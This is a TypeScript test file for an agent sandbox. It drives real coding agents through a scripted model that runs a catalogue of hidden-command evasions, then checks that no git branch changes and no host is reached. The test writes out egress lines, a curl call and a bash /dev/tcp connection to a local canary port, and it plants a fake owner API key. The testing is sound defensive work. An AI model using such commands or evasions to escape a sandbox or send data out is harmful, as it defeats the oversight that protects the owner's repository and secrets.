/**
 * The ways to hide a command, run: a real agent that may run everything behind the sandbox tries them one after the other. Nothing is published and nothing
 * leaves. VIEWPORT_EVASIONS names a file to which a row of the table in docs/attacks.md is added for each agent.
 */
import { appendFile, mkdir, rm, symlink } from 'node:fs/promises'
import { createServer, type AddressInfo, type Server } from 'node:net'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest'
import { hiddenCommands } from '@viewportai/core/policy/testing/hidden-commands'
import { realAgent } from '../agent/testing/real-agents.ts'
import { startScriptedModel, type ScriptedModel } from '../agent/testing/scripted-model.ts'
import { testRemote, type TestRemote } from '../git/remote.fixture.ts'
import { detectBubblewrap } from '../walls/detect.ts'
import { doJob } from './do-job.ts'
import { agentJob, sampleFiles } from './job.fixture.ts'
import { testPort } from './port.fixture.ts'

/** No repository can name these: its file may hold no hidden character, also not as an escape. Whoever wants to run them is asked. */
const unreadable = ['E66', 'E67']
const readable = hiddenCommands.filter(([id]) => !unreadable.includes(id))
/** A repository names so many checks at most; what it names runs unasked. */
const batch = 40

const sandbox = await detectBubblewrap()
const agents = [
  { name: 'claude', provider: 'anthropic' },
  { name: 'codex', provider: 'openai' },
].map((one) => ({ ...one, ...realAgent(one.name), said: realAgent(one.name).why ?? '' }))

type Played = {
  /** Commands that were allowed, and so ran. */
  ran: number
  /** Pushes that came as far as the git gateway: for a person to decide, or refused there. */
  recorded: number
  refused: number
  /** Branches of the remote that are other ones afterwards. */
  changed: number
  asked: (string | undefined)[]
  end: string | null
  code: string | null
}

describe.each(agents)('$name, which may run everything $said', { timeout: 600_000 }, ({ name, provider, file }) => {
  let remote: TestRemote
  let model: ScriptedModel
  let canary: Server
  let reached: string[]
  beforeEach(async () => {
    reached = []
    canary = createServer((socket) => {
      reached.push(String(socket.remotePort))
      socket.end('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n')
    })
    await new Promise<void>((ready) => canary.listen(0, '127.0.0.1', ready))
  })
  afterEach(async () => {
    vi.unstubAllEnvs()
    await new Promise((closed) => canary.close(closed))
    await model.close()
    await rm(remote.root, { recursive: true, force: true, maxRetries: 3 })
  })

  const play = async (commands: readonly string[], declared: readonly string[] = commands): Promise<Played> => {
    const checks = `${JSON.stringify(declared)}\n` // JSON is YAML
    remote = await testRemote({ ...(await sampleFiles()), '.viewport/checks.yaml': checks })
    const [home, bin] = [path.join(remote.root, 'home'), path.join(remote.root, 'bin')]
    await mkdir(home)
    await mkdir(bin)
    await symlink(file!, path.join(bin, name))
    vi.stubEnv('PATH', `${bin}:${process.env['PATH'] ?? ''}`)
    const turns = [...commands.map((sh) => ({ do: [{ sh }] })), { text: 'All tried.' }]
    model = await startScriptedModel(remote.root, [{ match: 'try everything', turns }])
    const before = remote.git('for-each-ref')
    const port = testPort(
      agentJob(remote, {
        agent: name,
        mode: 'edit',
        context: [],
        prompt: 'try everything',
        limits: { seconds: 500, tokens: null, usdMicros: null },
      }),
    )
    await doJob(port, {
      home,
      passEnvironment: [],
      commands: {},
      walls: { level: 'sandbox', read: [] },
      model: {
        home,
        logins: [],
        prices: {},
        env: {
          [`${provider.toUpperCase()}_API_KEY`]: 'the-real-key-0123456789-of-the-owner',
          [`${provider.toUpperCase()}_BASE_URL`]: provider === 'openai' ? `${model.url}/v1` : model.url,
        },
      },
    })
    const after = remote.git('for-each-ref')
    expect(after).toBe(before)
    expect(reached).toEqual([])
    const end = port.reports.at(-1)
    return {
      recorded: port.reports.filter(({ type }) => type === 'push').length,
      refused: port.reports.filter((one) => one.type === 'refused' && one.code === 'push_refused').length,
      asked: port.reports.flatMap((one) => (one.type === 'ask' ? [one.argv?.at(-1)] : [])),
      changed: after.split('\n').filter((line) => !before.includes(line)).length,
      end: end?.type ?? null,
      ran: port
        .logText()
        .split('\n')
        .filter((line) => line.startsWith('[permission]') && line.includes(': allow (')).length,
      code: end?.type === 'failed' ? end.failure.code : null,
    }
  }

  it.skipIf(file === null || !('found' in sandbox))(
    'publishes nothing and reaches no host, whatever it hides a command behind (E01-E80)',
    async () => {
      const port = (canary.address() as AddressInfo).port
      const outside = [
        `curl -s -m 3 http://127.0.0.1:${port}/`,
        `bash -c "exec 3<>/dev/tcp/127.0.0.1/${port} && echo x >&3"`,
      ]
      const commands = [...readable.map(([, command]) => command), ...outside]
      const sums = { ran: 0, recorded: 0, refused: 0, changed: 0 }
      for (let from = 0; from < commands.length; from += batch) {
        const part = commands.slice(from, from + batch)
        const played = await play(part)
        // They really ran: what is not tried proves nothing.
        expect([played.ran, played.code]).toEqual([part.length, null])
        for (const what of ['ran', 'recorded', 'refused', 'changed'] as const) sums[what] += played[what]
        if (from + batch < commands.length) {
          await model.close()
          await rm(remote.root, { recursive: true, force: true, maxRetries: 3 })
        }
      }
      // Pushes did get as far as the gateway: it is that which kept them.
      expect(sums.refused).toBeGreaterThan(0)
      const table = process.env['VIEWPORT_EVASIONS']
      const { ran, recorded, refused, changed } = sums
      if (table) await appendFile(table, `| ${[name, ran, refused, recorded, reached.length, changed].join(' | ')} |\n`)
    },
  )

  it.skipIf(file === null || !('found' in sandbox)).each(hiddenCommands.filter(([id]) => unreadable.includes(id)))(
    'asks a person about %s, and runs it not',
    async (_, command) => {
      expect(await play([command], [])).toMatchObject({ ran: 0, asked: [command], end: 'parked', code: null })
    },
  )
})
